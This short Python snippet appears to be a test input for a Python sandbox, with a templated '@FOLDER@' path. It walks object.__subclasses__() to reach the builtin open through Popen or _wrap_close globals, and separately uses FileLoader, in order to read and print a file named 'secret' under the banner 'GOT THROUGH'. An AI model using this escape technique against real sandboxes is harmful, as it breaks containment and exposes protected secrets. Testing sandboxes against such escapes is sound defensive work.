# Reaches for the way out through the subclasses of object.
for kind in object.__subclasses__():
    if kind.__name__ in ("Popen", "_wrap_close"):
        print(kind.__init__.__globals__["__builtins__"]["open"]("@FOLDER@/secret").read())
print(
    "GOT THROUGH",
    [k for k in object.__subclasses__() if k.__name__ == "FileLoader"][0]("x", "@FOLDER@/secret").get_data(
        "@FOLDER@/secret"
    ),
)
